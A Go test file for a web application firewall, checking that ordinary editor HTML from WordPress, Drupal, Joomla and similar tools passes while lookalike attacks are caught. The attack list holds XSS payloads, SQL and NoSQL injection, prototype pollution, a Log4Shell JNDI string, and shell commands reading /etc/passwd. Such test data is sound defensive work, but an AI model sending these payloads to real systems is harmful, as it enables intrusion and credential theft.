package waf

import (
	"net/url"
	"testing"
)

// editorTexts are what editors of articles write: WordPress, CKEditor 5, TinyMCE, Joomla, Drupal, Moodle, and pasted documents.
var editorTexts = []string{
	`<!-- wp:latest-posts {"postsToShow":3} /-->`,
	`<!-- wp:embed {"url":"https://www.youtube.com/watch?v=abc","type":"video","providerNameSlug":"youtube","responsive":true,"className":"wp-embed-aspect-16-9 wp-has-aspect-ratio"} --><figure class="wp-block-embed is-type-video"><div class="wp-block-embed__wrapper">
https://www.youtube.com/watch?v=abc
</div></figure><!-- /wp:embed -->`,
	`<p>a</p><!--more--><p>b</p>`, `<!--more Read on, please!-->`, `<!--nextpage-->`, `<!-- pagebreak -->`, `<!--StartFragment--><p>x</p><!--EndFragment-->`,
	`<div style="padding-top:var(--wp--preset--spacing--50)">a</div>`,
	`<!-- wp:group {"style":{"spacing":{"padding":{"top":"var:preset|spacing|50"}}},"layout":{"type":"constrained"}} --><div class="wp-block-group" style="padding-top:var(--wp--preset--spacing--50);padding-bottom:var(--wp--preset--spacing--50)"></div><!-- /wp:group -->`,
	`<!-- wp:cover {"url":"https://example.com/a.jpg","id":12,"dimRatio":50,"isDark":false} --><div class="wp-block-cover is-light"><span aria-hidden="true" class="wp-block-cover__background has-background-dim"></span><img class="wp-block-cover__image-background wp-image-12" alt="" src="https://example.com/a.jpg" data-object-fit="cover"/></div><!-- /wp:cover -->`,
	`<!-- wp:html {"content":"x"} -->`, `<!-- wp:button {"style":{"color":{"background":"#ff0000"}}} --><div class="wp-block-button"><a class="wp-block-button__link wp-element-button" href="https://example.com/" style="background-color:#ff0000" target="_blank" rel="noreferrer noopener">Go</a></div><!-- /wp:button -->`,
	`<figure class="wp-block-video"><video controls poster="https://example.com/a.jpg" src="https://example.com/a.mp4"></video></figure>`,
	`<video poster="/a.jpg" autoplay loop muted playsinline src="/a.mp4"></video>`,
	`<video controls="" poster="/a.jpg" preload="none"><source src="/a.mp4" type="video/mp4"></video>`,
	`<figure class="image image_resized" style="width:50%;"><img style="aspect-ratio:1200/800;" src="https://example.com/a.jpg" srcset="https://example.com/a_300.jpg 300w, https://example.com/a_600.jpg 600w" sizes="100vw" width="1200" height="800"><figcaption>x</figcaption></figure>`,
	`<figure class="media"><oembed url="https://www.youtube.com/watch?v=abc"></oembed></figure>`,
	`<figure class="table" style="width:auto;"><table><tbody><tr><td style="background-color:hsl(0, 75%, 60%);">a</td></tr></tbody></table></figure>`,
	`<p><img src="images/joomla.jpg#joomlaImage://local-images/joomla.jpg?width=640&height=480" alt="" width="640" height="480" loading="lazy" data-path="local-images:/joomla.jpg"></p><hr id="system-readmore">`,
	`<drupal-media data-entity-type="media" data-entity-uuid="ab-cd" data-align="center">&nbsp;</drupal-media><!--break-->`,
	`<p dir="ltr" style="text-align: left;"><img src="@@PLUGINFILE@@/a%20b.png" alt="x" class="img-fluid atto_image_button_text-bottom" width="20" height="30"><br></p>`,
	`<p class="MsoNormal" style="margin-bottom:0cm;line-height:normal;mso-fareast-font-family:&quot;Times New Roman&quot;;mso-ansi-language:EN-US"><span style="mso-spacerun:yes">&nbsp;</span><o:p></o:p></p>`,
	`<p class=MsoNormal style='margin-bottom:0cm;font-family:"Times New Roman",serif'>a<o:p></o:p></p>`,
	`<!--[if !supportLists]--><span style="mso-list:Ignore">1.</span><!--[endif]-->`,
	`<div style="background-image:url(https://example.com/a.jpg);background-size:cover">x</div>`,
	`<div style="background-image: url('/a.jpg')">x</div>`,
	`<td style="font: 12px/1.5 Arial; width: calc(100% - 2 * 10px);">x</td>`,
	`<a href="https://example.com/?a=1&amp;b=2" title="x" target="_blank" rel="noopener">x</a>`,
	`<details open><summary>a</summary><p style="color:red">b</p></details>`,
	`<ol start="3" type="a" style="list-style-type: lower-alpha;"><li>x</li></ol>`,
	`<blockquote cite="https://example.com/"><p>x</p></blockquote>`, `<picture><source srcset="/a.webp" type="image/webp"><img src="/a.jpg" alt=""></picture>`,
}

// editorAttacks resemble them.
var editorAttacks = []string{
	`<!-- wp:embed {"url":"https://a.b/"} --><script>alert(1)</script><!-- /wp:embed -->`,
	`<!-- wp:html {"content":"<script>alert(1)</script>"} /-->`,
	`<!-- wp:html {"content":"\u003cscript\u003ealert(1)\u003c/script\u003e"} /-->`,
	`<!--more--><img src=x onerror=alert(1)>`,
	`<!--[if IE]><script>alert(1)</script><![endif]-->`,
	`<!--#exec cmd="/bin/cat /etc/passwd"-->`,
	`<div style="padding-top:var(--a);width:expression(alert(1))">a</div>`,
	`<div style="background-image:url(javascript:alert(1))">a</div>`,
	`<div style="behavior:url(/a.htc)">a</div>`,
	`<video poster=javascript:alert(1)//></video>`,
	`<video poster="javascript:alert(1)" src="/a.mp4"></video>`,
	`<video controls src="/a.mp4" onloadstart="alert(1)"></video>`,
	`<img srcset="/a.jpg 1x, javascript:alert(1) 2x" src="/a.jpg">`,
	`<p style="color:red" onmouseover="alert(1)">a</p>`,
	`<p class=a style="color:red" onclick=alert(1)>a</p>`,
	`<a href="java&#x73;cript:alert(1)" style="color:red">a</a>`,
	`<iframe src="https://evil.example/" style="top:0"></iframe>`,
	`<drupal-media data-a="b" onclick="alert(1)">`,
	`<oembed url="javascript:alert(1)"></oembed>`,
	`<details open ontoggle=alert(1)>`,
}

// The usual output of an editor is no attack, and nothing hides in it.
func TestTextsOfEditors(t *testing.T) {
	s := settingsOf(t, asIs)
	check := func(text string, attack bool) {
		body := "content=" + url.QueryEscape(text)
		if v := judge(t, s, asked("POST", "/", body, form), body); (v.score >= s.threshold) != attack {
			t.Errorf("%s: %v", text, v)
		}
		if v := judge(t, s, asked("GET", "/preview?a=b&Content="+url.QueryEscape(text)+"&a=c&content=d", ""), ""); (v.score >= s.threshold) != attack {
			t.Errorf("in a query, %s: %v", text, v)
		}
	}
	for _, text := range editorTexts {
		check(text, false)
	}
	for _, text := range editorAttacks {
		check(text, true)
	}
}

// A value of a form that is JSON is read as JSON: its texts are no attack where they are none as fields.
func TestDocumentsInForms(t *testing.T) {
	s := settingsOf(t, asIs)
	many := ""
	for range 300 {
		many += `{"editor":"<p style=\"color:red\">find the <b>best</b> & sort it</p>","url":"https://example.com/a","update":"yes"},`
	}
	check := func(document string, attack bool) {
		t.Helper()
		for _, c := range []struct{ body, contentType string }{
			{"action=elementor_ajax&actions=" + url.QueryEscape(document) + "&z=1", form},
			{"--b\r\nContent-Disposition: form-data; name=\"actions\"\r\n\r\n" + document + "\r\n--b--\r\n", multipartB},
		} {
			if v := judge(t, s, asked("POST", "/wp-admin/admin-ajax.php", c.body, c.contentType), c.body); (v.score >= s.threshold) != attack {
				t.Errorf("%.300s: %v", document, v)
			}
		}
	}
	for _, document := range []string{
		`[{"id":"1a2b","elType":"section","settings":{"structure":"20","background_image":{"url":"https://example.com/a.jpg","id":5}},"elements":[{"id":"3c","elType":"widget","settings":{"editor":"<p style=\"color:red\">Hi <strong>you</strong></p>","title":"a & b"},"widgetType":"text-editor"}]}]`,
		`{"save_builder":{"action":"save_builder","data":{"status":"publish","elements":[{"id":"1a2b","elType":"widget","settings":{"html":"<img src=\"https:\/\/example.com\/a.jpg\" alt=\"x\" \/>","link":{"url":"https:\/\/example.com","is_external":"on"},"_css_classes":"x","update":"yes"},"elements":[],"widgetType":"image"}],"settings":{"post_title":"A"}}}}`,
		"[" + many + `{"a":"b"}]`,
		`{"a":{"b":[1,true,null,"Order 123\nCancel my order"]},"c":"desk & wall lamp"}`,
	} {
		check(document, false)
	}
	for _, document := range []string{
		`{"a":{"html":"\u003cscript\u003ealert(1)\u003c/script\u003e"}}`,
		`{"a":"<img src=x onerror=alert(1)>"}`,
		`{"a":"1' or '1'='1' union select password from users"}`,
		`{"<script>alert(1)</script>":1}`,
		`{"user":{"$ne":null}}`,
		`{"__proto__":{"a":1}}`,
		`["; cat /etc/passwd"]`,
		`{"a":"${jndi:ldap://a.b/c}"}`,
		"[" + many + `{"a":"1' union select password from users"}]`,
		"[" + many + `{"a":"<script>alert(1)</script>"}]`,
		"[" + many + `{"a":"x; cat /etc/passwd"}]`,
		`{"a":1}; cat /etc/passwd`,
		`{"a":"b"}' or 1=1 union select password from users`,
	} {
		check(document, true)
	}
}
